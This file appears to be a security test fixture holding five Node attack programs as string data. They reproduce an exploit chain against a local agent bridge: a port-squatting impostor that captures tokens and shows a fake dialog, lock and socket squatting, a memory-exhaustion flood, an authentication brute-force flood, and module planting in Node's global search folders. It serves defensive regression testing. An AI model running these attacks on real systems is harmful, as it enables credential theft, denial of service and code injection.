// Attack programs of issue 17's chain, as data: the image test writes them into a folder mounted into its
// container and runs them there only, as the tools' user inside the tools' Landlock domain, on loopback.
// Each writes what it achieved to files the test reads from outside. Plain Node, no dependencies.

/**
 * Holds the bridge's port as soon as it is free and plays the bridge, as the squatter of issue 17 did: a
 * challenge of its own (to collect a proof), then a fake "resumed" welcome with a fake dialog whatever the hello
 * said. Records every text frame a client sends. argv: port, capture file, status file.
 */
export const SQUAT_PORT = `
const net = require("net"), fs = require("fs"), crypto = require("crypto");
const [port, capture, status] = process.argv.slice(2);
const log = (line) => fs.appendFileSync(status, line + "\\n");
function frame(text) {
  const p = Buffer.from(text);
  let h;
  if (p.length < 126) h = Buffer.from([0x81, p.length]);
  else if (p.length < 65536) { h = Buffer.alloc(4); h[0] = 0x81; h[1] = 126; h.writeUInt16BE(p.length, 2); }
  else { h = Buffer.alloc(10); h[0] = 0x81; h[1] = 127; h.writeBigUInt64BE(BigInt(p.length), 2); }
  return Buffer.concat([h, p]);
}
function parse(buf) {
  const frames = [];
  let at = 0;
  while (buf.length - at >= 2) {
    const b1 = buf[at + 1];
    let len = b1 & 0x7f, off = 2;
    if (len === 126) { if (buf.length - at < 4) break; len = buf.readUInt16BE(at + 2); off = 4; }
    else if (len === 127) { if (buf.length - at < 10) break; len = Number(buf.readBigUInt64BE(at + 2)); off = 10; }
    const masked = (b1 & 0x80) !== 0, maskAt = off;
    if (masked) off += 4;
    if (buf.length - at < off + len) break;
    let payload = buf.subarray(at + off, at + off + len);
    if (masked) { const m = buf.subarray(at + maskAt, at + maskAt + 4); payload = Buffer.from(payload.map((x, i) => x ^ m[i % 4])); }
    frames.push({ op: buf[at] & 0x0f, payload });
    at += off + len;
  }
  return { frames, rest: buf.subarray(at) };
}
const server = net.createServer((sock) => {
  let buf = Buffer.alloc(0), upgraded = false;
  sock.on("error", () => {});
  sock.on("data", (d) => {
    buf = Buffer.concat([buf, d]);
    if (!upgraded) {
      const end = buf.indexOf("\\r\\n\\r\\n");
      if (end < 0) return;
      const head = buf.subarray(0, end).toString();
      buf = buf.subarray(end + 4);
      const key = (/sec-websocket-key:\\s*(\\S+)/i.exec(head) || [])[1] || "";
      const accept = crypto.createHash("sha1").update(key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest("base64");
      sock.write("HTTP/1.1 101 Switching Protocols\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Accept: " + accept + "\\r\\n\\r\\n");
      upgraded = true;
      sock.write(frame(JSON.stringify({ type: "challenge", protocol: 2, nonce: crypto.randomBytes(32).toString("hex") })));
      log("CLIENT:CONNECTED");
    }
    const { frames, rest } = parse(buf);
    buf = rest;
    for (const f of frames) {
      if (f.op !== 1) continue;
      const text = f.payload.toString();
      fs.appendFileSync(capture, text + "\\n");
      let msg;
      try { msg = JSON.parse(text); } catch { continue; }
      if (typeof msg.token === "string") log("TOKEN:CAPTURED");
      if (msg.type === "hello") {
        // Shaped like the real thing, so a client that believes it shows the fake dialog.
        const dialog = { id: "fake", method: "confirm", title: "Allow?", seq: 1 };
        const ok = { active: true, detail: "" };
        const snapshot = {
          state: null, queue: { steering: [], followUp: [] }, pendingDialogs: [dialog], policy: null,
          pi: { pid: 1, state: "running", exit: null, patched: true, problem: null, restarts: 0 }, agentBusy: false,
          isolation: {
            mode: "isolated", user: "agent", uid: 1000, gid: 1000, reason: null, reasons: [], notes: [],
            principals: { bridge: { uid: 0 }, pi: { user: "pi", uid: 999, gid: 999 }, tools: { user: "agent", uid: 1000, gid: 1000, home: "/home/agent" } },
            protections: { uidSeparation: ok, landlock: { active: true, abi: 7, scopes: ["signal", "abstract_unix_socket"], detail: "" }, toolEnvScrubbed: ok, tokenScrubbed: ok, executorRouting: ok },
          },
        };
        sock.write(frame(JSON.stringify({
          type: "welcome", seq: 0, protocol: msg.protocol, ...(msg.protocol === 1 ? {} : { proof: "0".repeat(64) }),
          epoch: (msg.resume && msg.resume.epoch) || "0".repeat(32), headSeq: 1, resumed: true, reset: null,
          pendingDialogs: [dialog], snapshot,
        })));
      } else {
        log("COMMAND:RECEIVED " + String(msg.type).slice(0, 40));
      }
    }
  });
});
(function tryListen() {
  server.once("error", () => setTimeout(tryListen, 25));
  server.listen(Number(port), "127.0.0.1", () => log("PORT:TAKEN"));
})();
`;

/**
 * Takes what it can of the bridge's single-instance lock: the abstract socket name the bridge used to bind
 * (named after the state dir's device and inode; retried until the bridge lets it go), and the lock file in the
 * state dir. Stays alive holding what it got. argv: state dir, status file.
 */
export const SQUAT_LOCK = `
const net = require("net"), fs = require("fs"), crypto = require("crypto"), path = require("path");
const [stateDir, status] = process.argv.slice(2);
const log = (line) => fs.appendFileSync(status, line + "\\n");
try {
  const st = fs.statSync(stateDir);
  const name = crypto.createHash("sha256").update(st.dev + ":" + st.ino).digest("hex").slice(0, 32);
  // Held by the bridge while it runs: taken the moment it is free.
  (function bind() {
    const s = net.createServer();
    s.once("error", () => setTimeout(bind, 25));
    s.listen({ path: "\\0chat-ui-agent-state-" + name }, () => log("ABSTRACT:BOUND"));
  })();
} catch (e) { log("STAT:FAILED " + e.code); }
const record = JSON.stringify({ pid: process.pid, start: "0", pidns: "x", boot: "x" });
for (const file of ["bridge/lock", "bridge/lock.new-squatter"]) {
  try { fs.writeFileSync(path.join(stateDir, file), record); log("LOCKFILE:WRITTEN " + file); }
  catch (e) { log("LOCKFILE:DENIED " + e.code); }
}
log("LOCK:READY");
setInterval(() => {}, 1 << 30);
`;

/**
 * Keeps `count` connections each sending one 31 MiB WebSocket message it never finishes, without a token;
 * reconnects when dropped, for `seconds`. argv: port, count, seconds, output file (counts, as JSON).
 */
export const FLOOD_MEMORY = `
const net = require("net"), fs = require("fs");
const [port, count, seconds, out] = process.argv.slice(2);
const total = 31 * 1024 * 1024, chunk = Buffer.alloc(64 * 1024, 0x61);
const stats = { connections: 0, dropped: 0, maxWritten: 0 };
const end = Date.now() + Number(seconds) * 1000;
function header() {
  const h = Buffer.alloc(14);
  h[0] = 0x82; h[1] = 0x80 | 127; h.writeBigUInt64BE(BigInt(total), 2); h.writeUInt32BE(0x11223344, 10);
  return h;
}
function one() {
  if (Date.now() > end) return;
  const s = net.connect(Number(port), "127.0.0.1");
  stats.connections++;
  let written = 0, upgraded = false, done = false;
  const finish = () => {
    if (done) return;
    done = true; stats.dropped++; stats.maxWritten = Math.max(stats.maxWritten, written);
    setTimeout(one, 10);
  };
  s.on("error", finish); s.on("close", finish);
  s.on("connect", () => s.write("GET /v1/rpc HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"));
  s.on("data", () => { if (upgraded) return; upgraded = true; s.write(header()); pump(); });
  // The message stays unfinished: its last byte is never sent.
  function pump() {
    while (!done && written < total - 1) {
      const n = Math.min(chunk.length, total - 1 - written);
      written += n;
      if (!s.write(n === chunk.length ? chunk : chunk.subarray(0, n))) { s.once("drain", pump); return; }
    }
  }
}
for (let i = 0; i < Number(count); i++) one();
setTimeout(() => { fs.writeFileSync(out, JSON.stringify(stats)); process.exit(0); }, Number(seconds) * 1000 + 300);
`;

/**
 * Guesses as fast as it can with `workers` parallel connections: a protocol-2 hello with a random proof (or, to
 * a bridge that sends no challenge, a protocol-1 hello with a random token). argv: port, seconds, workers,
 * output file (each answer's time and close code).
 */
export const FLOOD_AUTH = `
const crypto = require("crypto"), fs = require("fs");
const [port, seconds, workers, out] = process.argv.slice(2);
const start = Date.now(), end = start + Number(seconds) * 1000;
const results = [];
let started = 0;
const hex = () => crypto.randomBytes(32).toString("hex");
function attempt() {
  return new Promise((resolve) => {
    const t0 = Date.now();
    const ws = new WebSocket("ws://127.0.0.1:" + port + "/v1/rpc");
    let sent = false;
    const hello = (v2) => {
      if (sent) return;
      sent = true;
      ws.send(JSON.stringify(v2
        ? { type: "hello", protocol: 2, clientId: "flood", nonce: hex(), proof: hex() }
        : { type: "hello", protocol: 1, token: hex().slice(0, 32), clientId: "flood" }));
    };
    ws.onopen = () => setTimeout(() => hello(false), 500);
    ws.onmessage = (e) => {
      let f; try { f = JSON.parse(e.data); } catch { return; }
      if (f.type === "challenge") hello(true);
      if (f.type === "welcome") results.push({ at: Date.now() - start, ms: Date.now() - t0, code: "WELCOME" });
    };
    ws.onclose = (e) => { results.push({ at: Date.now() - start, ms: Date.now() - t0, code: e.code }); resolve(); };
    ws.onerror = () => {};
  });
}
async function worker() { while (Date.now() < end) { started++; await attempt(); } }
const write = (extra) => fs.writeFileSync(out, JSON.stringify({ started, results, ...extra }));
Promise.all(Array.from({ length: Number(workers) }, worker)).then(() => { write({}); process.exit(0); });
setTimeout(() => { write({ cutShort: true }); process.exit(0); }, Number(seconds) * 1000 + 20000);
`;

/**
 * Finds every package name a file of the runtime requires or imports that Node cannot resolve from there (so
 * Node would search its global folders for it), then plants a module of that name in each folder given. A
 * planted module that gets loaded leaves a mark: who loaded it (uid, argv). argv: folders (":"-separated),
 * marker dir, output file (the names, as JSON).
 */
export const PLANT_MODULES = `
const fs = require("fs"), path = require("path"), Module = require("module");
const [folderList, markerDir, out] = process.argv.slice(2);
const builtins = new Set(Module.builtinModules);
const names = new Set(["bufferutil", "utf-8-validate"]);
const seen = new Set();
let files = 0;
function scan(file) {
  let text;
  try { if (fs.statSync(file).size > 8 * 1024 * 1024) return; text = fs.readFileSync(file, "utf8"); } catch { return; }
  for (const m of text.matchAll(/\\brequire\\(\\s*["']([^"'\\s]+)["']\\s*\\)|\\bimport\\(\\s*["']([^"'\\s]+)["']\\s*\\)/g)) {
    const spec = m[1] || m[2];
    if (!spec || spec.startsWith(".") || spec.startsWith("/") || spec.startsWith("node:") || builtins.has(spec)) continue;
    const name = spec.startsWith("@") ? spec.split("/").slice(0, 2).join("/") : spec.split("/")[0];
    if (builtins.has(name) || !/^(@[a-z0-9._-]+\\/)?[a-z0-9._-]+$/i.test(name)) continue;
    const key = name + "\\0" + path.dirname(file);
    if (seen.has(key)) continue;
    seen.add(key);
    try { require.resolve(name, { paths: [path.dirname(file)] }); } catch { names.add(name); }
  }
}
(function walk(dir, depth) {
  if (depth > 40 || files > 300000) return;
  let entries;
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p, depth + 1);
    else if (e.isFile() && /\\.(c|m)?js$/.test(e.name)) { files++; scan(p); }
  }
})("/opt/chat-ui-agent", 0);
fs.mkdirSync(markerDir, { recursive: true });
fs.chmodSync(markerDir, 0o777);
const body = (name) =>
  "const fs = require('fs');\\n" +
  "try { fs.writeFileSync(" + JSON.stringify(markerDir + "/") + " + " + JSON.stringify(name.replace("/", "+")) +
  " + '-' + process.pid, JSON.stringify({ name: " + JSON.stringify(name) + ", uid: process.getuid(), argv: process.argv })); } catch {}\\n" +
  "module.exports = {};\\n";
for (const folder of folderList.split(":")) {
  for (const name of names) {
    const dir = path.join(folder, name);
    try {
      fs.mkdirSync(dir, { recursive: true });
      fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify({ name, main: "index.js" }));
      fs.writeFileSync(path.join(dir, "index.js"), body(name));
    } catch {}
  }
}
fs.writeFileSync(out, JSON.stringify({ files, names: [...names].sort() }));
`;
